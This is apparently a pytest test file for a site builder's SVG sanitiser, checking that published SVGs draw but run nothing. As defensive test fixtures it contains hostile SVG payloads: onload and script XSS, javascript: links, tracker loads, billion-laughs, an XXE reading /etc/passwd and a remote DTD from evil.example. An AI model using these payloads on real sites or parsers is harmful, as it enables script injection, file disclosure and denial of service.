"""An SVG linked from an article is published cleaned: it draws, and runs nothing."""

from __future__ import annotations

import time
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from conftest import GOOD, Run, make_site

from site_builder.svg import LOADS, RUNS, clean_svg

S = "{http://www.w3.org/2000/svg}"
HOSTILE = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     viewBox="0 0 100 100" onload="document.title='ran'">
  <script>document.title = 'ran';</script>
  <foreignObject width="10" height="10"><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>
  <a xlink:href="javascript:alert(1)"><rect id="box" width="50" height="50" fill="red"/></a>
  <image href="https://tracker.example/pixel.png" width="1" height="1"/>
  <circle id="dot" cx="50" cy="50" r="20" style="fill: url(http://tracker.example/p#g)">
    <set attributeName="href" to="javascript:alert(2)"/>
  </circle>
  <path d="M0 0 L100 100" stroke="black"/>
</svg>
"""
CLEAN = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     viewBox="0 0 120 80" width="120" height="80" role="img" aria-label="An orbit">
  <title>An orbit</title>
  <defs>
    <linearGradient id="sky" x1="0" y1="0" x2="0" y2="1">
      <stop offset="0" stop-color="#123"/><stop offset="1" stop-color="#456"/>
    </linearGradient>
    <marker id="arrow" markerWidth="4" markerHeight="4" refX="2" refY="2" orient="auto">
      <path d="M0,0 L4,2 L0,4 z"/>
    </marker>
    <style>.orbit { stroke: #888; fill: none } .planet { fill: url(#sky) }</style>
  </defs>
  <rect width="120" height="80" fill="url(#sky)"/>
  <ellipse class="orbit" cx="60" cy="40" rx="50" ry="25" marker-end="url(#arrow)"/>
  <circle id="planet" class="planet" cx="60" cy="40" r="8">
    <animate attributeName="r" values="8;9;8" dur="3s" repeatCount="indefinite"/>
  </circle>
  <use xlink:href="#planet" x="40"/>
  <image href="data:image/png;base64,iVBORw0KGgo=" width="2" height="2"/>
  <text x="4" y="76" font-size="8" xml:space="preserve">Mars &amp; its orbit &lt;1.9 y&gt;</text>
  <!-- not to scale -->
</svg>
"""


def linking_site(tmp_path: Path, svg: bytes, name: str = "orbit.svg") -> Path:
    article = (
        f"# Good\n\nTianwen-3, seen from afar:\n\n![The orbit]({name}) and [the file]({name}).\n"
    )
    return make_site(tmp_path, {**GOOD, "seeds/good.md": article, f"seeds/{name}": svg})


def elements(data: bytes) -> list[tuple[str, dict[str, str], str]]:
    """Every element of an XML file, in order: its tag, attributes and text."""
    return [(e.tag, dict(e.attrib), (e.text or "").strip()) for e in ET.fromstring(data).iter()]


def test_script_and_what_loads_from_elsewhere_go_and_the_shapes_stay(
    tmp_path: Path, cli: Run
) -> None:
    linking_site(tmp_path, HOSTILE)
    result = cli("build")
    assert result.code == 0
    assert result.diagnostics == [
        f"seeds/orbit.svg:2: warning: removed onload= ({RUNS})",  # where its tag starts
        f"seeds/orbit.svg:4: warning: removed <script> ({RUNS})",
        f"seeds/orbit.svg:5: warning: removed <foreignObject> ({RUNS})",
        f'seeds/orbit.svg:6: warning: removed xlink:href="javascript:…" ({RUNS})',
        f'seeds/orbit.svg:7: warning: removed href="https://tracker.example/pixel.png" ({LOADS})',
        f"seeds/orbit.svg:8: warning: removed style= with url(http://tracker.example/p#g) "
        f"({LOADS})",
        f'seeds/orbit.svg:9: warning: removed <set attributeName="href"> ({RUNS})',
    ]
    published = (tmp_path / "_site" / "_files" / "orbit.svg").read_bytes()
    for gone in (b"script", b"onload", b"foreignObject", b"javascript", b"tracker", b"<set"):
        assert gone not in published
    kept = {(tag, attributes.get("id")) for tag, attributes, _ in elements(published)}
    assert {(f"{S}rect", "box"), (f"{S}circle", "dot"), (f"{S}path", None)} <= kept
    assert elements(published)[0][1] == {"viewBox": "0 0 100 100"}
    page = (tmp_path / "_site" / "good" / "index.html").read_text(encoding="utf-8")
    assert '<img src="../_files/orbit.svg" alt="The orbit" />' in page


def test_a_clean_svg_keeps_every_element_and_attribute_and_warns_of_nothing(
    tmp_path: Path, cli: Run
) -> None:
    linking_site(tmp_path, CLEAN)
    result = cli("build", "--strict")
    assert (result.code, result.diagnostics) == (0, [])
    published = (tmp_path / "_site" / "_files" / "orbit.svg").read_bytes()
    assert elements(published) == elements(CLEAN)
    assert b"<!-- not to scale -->" in published


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE svg [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>
"""
EXTERNAL = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&secret;</text></svg>
"""
PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>
<svg xmlns="http://www.w3.org/2000/svg"/>
"""


@pytest.mark.parametrize(
    ("svg", "line", "entity"),
    [(BILLION_LAUGHS, 3, "lol"), (EXTERNAL, 2, "secret"), (PARAMETER, 2, "remote")],
    ids=["billion-laughs", "external-entity", "parameter-entity"],
)
def test_entities_refuse_the_file_quickly(
    tmp_path: Path, cli: Run, svg: bytes, line: int, entity: str
) -> None:
    linking_site(tmp_path, svg)
    started = time.perf_counter()
    result = cli("build")
    assert time.perf_counter() - started < 10  # seconds: the whole build, entities unexpanded
    assert result.diagnostics == [
        f"seeds/orbit.svg:{line}: warning: not published: its DOCTYPE declares the entity "
        f"'{entity}' (entities are not expanded)"
    ]
    assert not (tmp_path / "_site" / "_files" / "orbit.svg").exists()
    page = (tmp_path / "_site" / "good" / "index.html").read_text(encoding="utf-8")
    assert 'alt="The orbit"' in page and ">the file</a>" in page  # no words lost


@pytest.mark.parametrize(
    ("svg", "line", "why"),
    [
        (b"", 1, "it cannot be read as SVG (no element found, column 1)"),
        (b"\x89PNG\r\n\x1a\n" + bytes(64), 1, "it cannot be read as SVG"),
        ('<svg xmlns="http://www.w3.org/2000/svg">\n<text>é</text></svg>'.encode("latin-1"), 2, ""),
        (b"\xff\xfe<\x00s\x00v\x00g\x00", 1, "it cannot be read as SVG"),  # UTF-16 cut short
        (b'<svg xmlns="http://www.w3.org/2000/svg">\n<g>\n</svg>', 3, "mismatched tag"),
        (b"<html><body><script>alert(1)</script></body></html>", 1, "its root element is <html>"),
        (b"<svg><script>alert(1)</script></svg>", 1, "its root element is <svg>, not SVG's"),
    ],
    ids=["empty", "png", "latin-1", "utf-16-cut", "unclosed", "html", "no-namespace"],
)
def test_a_file_that_is_not_svg_is_a_warning_and_not_published(
    tmp_path: Path, cli: Run, svg: bytes, line: int, why: str
) -> None:
    linking_site(tmp_path, svg)
    result = cli("build")  # no traceback: `cli` checks
    assert result.code == 0
    [warning] = result.diagnostics
    assert warning.startswith(f"seeds/orbit.svg:{line}: warning: not published: ")
    assert why in warning
    assert not (tmp_path / "_site" / "_files" / "orbit.svg").exists()


def test_a_warm_build_tells_the_removals_again_and_an_edit_is_cleaned_afresh(
    tmp_path: Path, cli: Run
) -> None:
    linking_site(tmp_path, HOSTILE)
    cold = cli("build")
    warm = cli("build")
    assert warm.diagnostics == cold.diagnostics != []
    (tmp_path / "seeds" / "orbit.svg").write_bytes(HOSTILE.replace(b"<script>", b"<script >"))
    assert cli("build").diagnostics == cold.diagnostics
    (tmp_path / "seeds" / "orbit.svg").write_bytes(CLEAN)
    assert cli("build", "--strict").diagnostics == []
    published = (tmp_path / "_site" / "_files" / "orbit.svg").read_bytes()
    assert elements(published) == elements(CLEAN)


# What the cleaner takes out beyond the build's cases, one by one.
REMOVED = {
    "xml-stylesheet": (
        b'<?xml-stylesheet type="text/xsl" href="evil.xsl"?><svg xmlns="http://www.w3.org/2000/svg"/>',
        "removed <?xml-stylesheet?>",
    ),
    "xhtml-script": (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml">'
        b"<h:script>alert(1)</h:script></svg>",
        f"removed <h:script> ({RUNS})",
    ),
    "animate-onclick": (
        b'<svg xmlns="http://www.w3.org/2000/svg">'
        b'<animate attributeName="onclick" to="x()"/></svg>',
        f'removed <animate attributeName="onclick"> ({RUNS})',
    ),
    "javascript-spelt-apart": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><a href=" java&#9;script:alert(1)"/></svg>',
        'removed href="javascript:…"',
    ),
    "animate-values-javascript": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="xlink:href" '
        b'values="javascript:alert(1)"/></a></svg>',
        'removed <animate attributeName="xlink:href">',
    ),
    "style-import": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><style>@import "http://e.example/a.css";</style></svg>',
        f"removed <style> with @import ({LOADS})",
    ),
    "css-escape": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill: \\75 rl(http://e.example)"/></svg>',
        "removed style= with a CSS escape",
    ),
    "external-use": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><use href="other.svg#x"/></svg>',
        'removed href="other.svg#x"',
    ),
    "data-svg-image": (
        b'<svg xmlns="http://www.w3.org/2000/svg">'
        b'<image href="data:image/svg+xml,&lt;svg/&gt;"/></svg>',
        'removed href="data:image/svg+xml,<svg/>"',
    ),
    "xml-base": (
        b'<svg xmlns="http://www.w3.org/2000/svg" xml:base="http://e.example/"/>',
        f"removed xml:base= ({LOADS})",
    ),
    "unknown-data": (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:i="http://mine.example/ns">'
        b'<i:grid/><g i:label="Layer 1"/><video/></svg>',
        "left out what an SVG image does not draw: <i:grid>, i:label, <video>",
    ),
}


@pytest.mark.parametrize(("svg", "message"), REMOVED.values(), ids=REMOVED.keys())
def test_each_thing_taken_out_is_told(svg: bytes, message: str) -> None:
    cleaned = clean_svg(svg)
    assert cleaned.data is not None
    assert any(text.startswith(message) for _, text in cleaned.problems), cleaned.problems
    for gone in (b"alert", b"script", b"e.example", b"evil", b"onclick"):
        assert gone not in cleaned.data
    ET.fromstring(cleaned.data)  # well-formed


# As Inkscape 0.92 and 1.2 save a drawing ("Inkscape SVG"), and Illustrator exports one.
INKSCAPE_092 = b"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->
<svg
   xmlns:dc="http://purl.org/dc/elements/1.1/"
   xmlns:cc="http://creativecommons.org/ns#"
   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
   xmlns:svg="http://www.w3.org/2000/svg"
   xmlns="http://www.w3.org/2000/svg"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
   width="210mm" height="297mm" viewBox="0 0 210 297" version="1.1" id="svg8"
   inkscape:version="0.92.4 (5da689c313, 2019-01-14)" sodipodi:docname="orbit.svg">
  <defs id="defs2" />
  <sodipodi:namedview id="base" pagecolor="#ffffff" inkscape:zoom="0.35"
     inkscape:document-units="mm" showgrid="false" />
  <metadata id="metadata5">
    <rdf:RDF>
      <cc:Work rdf:about="">
        <dc:format>image/svg+xml</dc:format>
        <dc:type rdf:resource="http://purl.org/dc/dcmitype/StillImage" />
        <dc:title>Orbit</dc:title>
      </cc:Work>
    </rdf:RDF>
  </metadata>
  <g inkscape:label="Layer 1" inkscape:groupmode="layer" id="layer1">
    <circle style="fill:#ff0000;stroke-width:0.26" id="path10" cx="60" cy="80" r="30" />
    <path sodipodi:nodetypes="cc" inkscape:connector-curvature="0" d="M 10,10 90,90"
       style="stroke:#000000" id="path12" />
    <text xml:space="preserve" x="20" y="150" id="text14"><tspan sodipodi:role="line"
       id="tspan16" x="20" y="150">Mars</tspan></text>
  </g>
</svg>
"""
INKSCAPE_12 = b"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<svg width="100mm" height="50mm" viewBox="0 0 100 50" version="1.1" id="svg5"
   inkscape:version="1.2.2 (b0a8486541, 2022-12-01)" sodipodi:docname="orbit.svg"
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
   xmlns="http://www.w3.org/2000/svg" xmlns:svg="http://www.w3.org/2000/svg">
  <sodipodi:namedview id="namedview7" pagecolor="#ffffff" inkscape:showpageshadow="2"
     inkscape:deskcolor="#d1d1d1" inkscape:document-units="mm">
    <inkscape:page x="0" y="0" width="100" height="50" id="page9" />
  </sodipodi:namedview>
  <g inkscape:label="Layer 1" inkscape:groupmode="layer" id="layer1">
    <rect style="fill:#0000ff" id="rect234" width="50" height="30" x="20" y="10" />
  </g>
</svg>
"""
ILLUSTRATOR = b"""<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: Adobe Illustrator 24.0.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->
<svg version="1.1" id="Layer_1" xmlns="http://www.w3.org/2000/svg"
    xmlns:xlink="http://www.w3.org/1999/xlink"
    xmlns:i="http://ns.adobe.com/AdobeIllustrator/10.0/"
    x="0px" y="0px" viewBox="0 0 100 50" style="enable-background:new 0 0 100 50;"
    xml:space="preserve" i:extraneous="self">
<style type="text/css">.st0{fill:#00FF00;}</style>
<rect x="10" y="10" class="st0" width="40" height="20"/>
</svg>
"""


@pytest.mark.parametrize(
    ("svg", "drawn"),
    [(INKSCAPE_092, b"<circle"), (INKSCAPE_12, b"<rect"), (ILLUSTRATOR, b'class="st0"')],
    ids=["inkscape-0.92", "inkscape-1.2", "illustrator"],
)
def test_a_drawing_programs_own_data_goes_without_a_warning(svg: bytes, drawn: bytes) -> None:
    cleaned = clean_svg(svg)
    assert cleaned.problems == ()  # `--strict` and `deploy` take it as it is
    assert cleaned.data is not None and drawn in cleaned.data
    for gone in (b"inkscape:", b"sodipodi:", b"namedview", b"rdf:", b"dc:", b"i:extraneous"):
        assert gone not in cleaned.data
    ET.fromstring(cleaned.data)  # well-formed


def test_the_same_removal_many_times_is_one_warning_with_a_count() -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg">' + b'<rect onclick="x()"/>' * 1000 + b"</svg>"
    assert clean_svg(svg).problems == ((1, f"removed onclick=, 1000 times ({RUNS})"),)


def test_deep_nesting_and_size_cost_linear_time_and_no_recursion() -> None:
    times = []
    for depth in (100_000, 400_000):
        svg = b'<svg xmlns="http://www.w3.org/2000/svg">' + b"<g>" * depth + b"</g>" * depth
        started = time.perf_counter()
        cleaned = clean_svg(svg + b"</svg>")
        times.append(time.perf_counter() - started)
        assert cleaned.data is not None and cleaned.data.count(b"<g>") == depth
    # Four times the input: about four times the time, far from the sixteen of a square.
    assert times[1] < 10 * times[0] + 0.2


def test_a_backslash_outside_css_is_kept() -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" aria-label="C:\\orbits" id="a\\b"/>'
    cleaned = clean_svg(svg)
    assert cleaned.problems == ()
    assert cleaned.data is not None and b'aria-label="C:\\orbits" id="a\\b"' in cleaned.data
